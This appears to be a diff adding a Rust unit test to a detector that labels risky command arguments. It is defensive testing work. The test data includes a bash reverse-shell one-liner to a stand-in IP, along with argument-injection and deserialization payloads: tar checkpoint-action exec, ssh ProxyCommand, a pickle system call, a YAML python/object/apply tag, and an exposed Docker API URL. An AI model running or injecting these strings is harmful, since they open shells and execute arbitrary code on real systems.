@@ -115,4 +115,21 @@ mod tests {
         }
         assert_eq!(labels("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Place::Result), ["shell"]);
     }
+
+    #[test]
+    fn what_starts_a_program_by_a_side_door_is_found() {
+        for text in [
+            "a.tgz --checkpoint=1 --checkpoint-action=exec=sh x.sh",
+            "-oProxyCommand=x host",
+            "cposix\nsystem\n(S'x'\ntR.",
+            "!!python/object/apply:os.getcwd []",
+            "http://localhost:2375/containers/json",
+        ] {
+            assert_ne!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
+        }
+        for text in ["tar --checkpoint=100 -xf a.tgz", "http://localhost:8080/containers", "cosine\nsystem\n"]
+        {
+            assert_eq!(labels(text, Place::Argument), Vec::<&str>::new(), "{text}");
+        }
+    }
 }
